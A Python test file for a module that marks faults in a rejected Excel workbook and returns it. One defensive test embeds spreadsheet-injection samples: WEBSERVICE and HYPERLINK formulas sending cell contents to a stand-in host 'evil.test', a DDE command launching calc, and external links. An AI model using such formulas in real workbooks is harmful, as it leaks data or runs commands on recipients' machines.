"""A refused workbook back to its author: marked, complete, and taken in again once repaired."""

import re
import zipfile
from datetime import date, time
from html import escape
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from data.workbook.outgoing import marking
from data.workbook.outgoing.marking import FAULTS, FILL, mark
from data.workbook.rows import Content
from models.text import Sentence
from tests.data.workbook.books import (
    WORKBOOK,
    WORKBOOK_RELATIONS,
    Formatted,
    Formula,
    content,
    raw,
    unit_rows,
    write,
)

UNITS = "单位网格"


def english(text: Sentence) -> str:
    return text.say(str, "en")


def marked(folder: Path, sheets: dict[str, list[list[Any]]]) -> tuple[Path, Content]:
    source = write(folder / "source.xlsx", sheets)
    found = content(source)
    mark(source, found.faults, folder / "marked.xlsx", english)
    return folder / "marked.xlsx", found


def filled(book: Workbook, sheet: str) -> set[str]:
    """The cells with the colour of a fault."""
    return {
        cell.coordinate
        for row in book[sheet].iter_rows()
        for cell in row
        if cell.fill.fgColor.rgb == "FF" + FILL[1:]
    }


def test_faulty_cells_are_filled_and_say_why(tmp_path: Path) -> None:
    rows = unit_rows({"kind": "？", "enrolled_on": 5}, {}, {"name": None})
    path, found = marked(tmp_path, {UNITS: rows})
    book = openpyxl.load_workbook(path)
    assert filled(book, UNITS) == {"C2", "E2", "B4"}
    assert book[UNITS]["C2"].comment.text == english(found.faults[0].sentence)
    assert book[UNITS]["A2"].comment is None


def test_every_fault_is_listed(tmp_path: Path) -> None:
    path, found = marked(
        tmp_path, {UNITS: unit_rows({"kind": "？"}), "x": [["y"]], "条线": [["z"]]}
    )
    listed = list(openpyxl.load_workbook(path)[FAULTS].iter_rows(min_row=2, values_only=True))
    assert listed == [
        (each.sheet, each.row, each.column, each.value, english(each.sentence))
        for each in found.faults
    ]


def test_marked_workbook_has_the_same_faults(tmp_path: Path) -> None:
    odd = [
        Formula("=1/0", "#DIV/0!"),
        Formula("=A1&A2"),
        Formatted(0.25, "0%"),
        True,
        1.5,
        time(8, 30),
        date(2026, 1, 1),
        "=1+1",
        " 一 ",
    ]
    rows = unit_rows(*({"pilot_batch": cell} for cell in odd))
    path, found = marked(tmp_path, {UNITS: rows, "#备注": [["x", 1]], "未知": [["y"]]})
    assert len(found.faults) == len(odd) + 1
    again = content(path)
    # Formulas are not copied, but stay faults.
    formulas = {"=A1&A2": "=#N/A"}
    assert {(each.sheet, each.row, each.column, each.value) for each in again.faults} == {
        (each.sheet, each.row, each.column, formulas.get(str(each.value), each.value))
        for each in found.faults
    }


EVIL = "http://evil.test/"


@pytest.mark.parametrize(
    ("formula", "result"),
    [
        (f'WEBSERVICE("{EVIL}?"&A1)', None),
        (f'WEBSERVICE("{EVIL}?"&A1)', "教育"),
        (f'HYPERLINK("{EVIL}?"&A1,"教育")', "#VALUE!"),
        ("cmd|' /C calc'!A0", None),
        ("[1]Sheet1!A1", None),
        ("evil", "教育"),
    ],
    ids=["fetched", "fetched before", "link with an error", "DDE", "other workbook", "name"],
)
def test_nothing_that_reaches_outside_comes_back(
    tmp_path: Path, formula: str, result: str | None
) -> None:
    """The office opens the copy: no formula, link or name of the sender is in it."""
    source = _reaching_outside(tmp_path / "source.xlsx", formula, result)
    found = content(source)
    mark(source, found.faults, tmp_path / "marked.xlsx", english)
    with zipfile.ZipFile(tmp_path / "marked.xlsx") as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    formulas = {each for part in parts.values() for each in re.findall(r"<f[ >].*?</f>", part)}
    assert formulas <= {f"<f>{error}</f>" for error in marking.ERRORS}
    assert not [name for name, part in parts.items() if "definedName" in part]
    assert not [name for name in parts if "externalLinks" in name or "connections" in name]
    assert not [name for name, part in parts.items() if "TargetMode" in part]
    # What was sent stands in the list, as text.
    listed = openpyxl.load_workbook(tmp_path / "marked.xlsx")[FAULTS]
    values = {listed.cell(row, 4).value for row in range(2, listed.max_row + 1)}
    assert values == {each.value for each in found.faults}


def _reaching_outside(path: Path, formula: str, result: str | None) -> Path:
    """A workbook with a fault, a formula, a link to another workbook and a name that refers to
    it."""
    kind = ' t="e"' if result and result.startswith("#") else ' t="str"' if result else ""
    value = f"<v>{result}</v>" if result else ""
    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
    rows += '<c r="C1" t="str"><v>未知</v></c></row><row r="2"><c r="A2" t="str"><v>EDU</v></c>'
    rows += f'<c r="B2"{kind}><f>{escape(formula)}</f>{value}</c></row>'
    link = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
    )
    names = (
        '</sheets><externalReferences><externalReference r:id="rId9"/></externalReferences>'
        '<definedNames><definedName name="evil">[1]Sheet1!$A$1</definedName></definedNames>'
    )
    return raw(
        path,
        rows,
        relations=WORKBOOK_RELATIONS.replace("</Relationships>", link),
        workbook=WORKBOOK.replace("</sheets>", names),
        **{"xl/externalLinks/externalLink1.xml": f"<externalLink><a>{EVIL}</a></externalLink>"},
    )


def test_marked_workbook_is_taken_in_once_repaired(tmp_path: Path) -> None:
    path, found = marked(tmp_path, {UNITS: unit_rows({"kind": "？", "code": 7}, {"code": "001"})})
    book = openpyxl.load_workbook(path)
    book[UNITS]["C2"].value = "街道"
    book.save(path)
    again = content(path)
    assert not again.faults
    assert [values for _, values in again.sheets[0].rows] == [
        ("7", "一中", "SUBDISTRICT", "EDU", date(2024, 1, 1)),
        ("001", "一中", "INSTITUTION", "EDU", date(2024, 1, 1)),
    ]
    assert found.faults


def test_stray_values_and_headers_are_marked(tmp_path: Path) -> None:
    sheet = [["条线编码", "条线名称", None, "未知"], ["EDU", "教育", "x", 1]]
    path, _ = marked(tmp_path, {"条线": sheet})
    assert filled(openpyxl.load_workbook(path), "条线") == {"C2", "D1"}


def test_hidden_sheet_stays_hidden(tmp_path: Path) -> None:
    source = write(tmp_path / "a.xlsx", {"条线": [["条线编码"]], "#x": [["y"]]})
    book = openpyxl.load_workbook(source)
    book["#x"].sheet_state = "hidden"
    book.save(source)
    mark(source, content(source).faults, tmp_path / "b.xlsx", english)
    assert openpyxl.load_workbook(tmp_path / "b.xlsx")["#x"].sheet_state == "hidden"


def test_earlier_list_of_faults_is_replaced(tmp_path: Path) -> None:
    path, _ = marked(tmp_path, {UNITS: unit_rows({"kind": "？"})})
    mark(path, content(path).faults, tmp_path / "again.xlsx", english)
    book = openpyxl.load_workbook(tmp_path / "again.xlsx")
    assert book.sheetnames == [FAULTS, UNITS]


def test_unreadable_file_gives_a_list_alone(tmp_path: Path) -> None:
    (tmp_path / "a.xlsx").write_bytes(b"no workbook")
    mark(tmp_path / "a.xlsx", content(tmp_path / "a.xlsx").faults, tmp_path / "b.xlsx", english)
    book = openpyxl.load_workbook(tmp_path / "b.xlsx")
    assert book.sheetnames == [FAULTS]
    assert "not an .xlsx" in book[FAULTS]["E2"].value


def test_many_faults_have_colours_but_not_all_a_comment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(marking, "COMMENTS", 2)
    path, _ = marked(tmp_path, {UNITS: unit_rows(*[{"kind": "？"}] * 4)})
    book = openpyxl.load_workbook(path)
    assert len(filled(book, UNITS)) == 4
    assert [book[UNITS][f"C{n}"].comment is not None for n in range(2, 6)] == [True] * 2 + [
        False
    ] * 2


def test_shared_formula_without_result_stays_a_fault(tmp_path: Path) -> None:
    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row><row r="2">'
    rows += '<c r="A2" t="str"><v>EDU</v></c><c r="B2"><f t="shared" si="0"/></c></row>'
    source = raw(tmp_path / "a.xlsx", rows)
    mark(source, content(source).faults, tmp_path / "b.xlsx", english)
    assert [each.column for each in content(tmp_path / "b.xlsx").faults] == ["条线名称"]
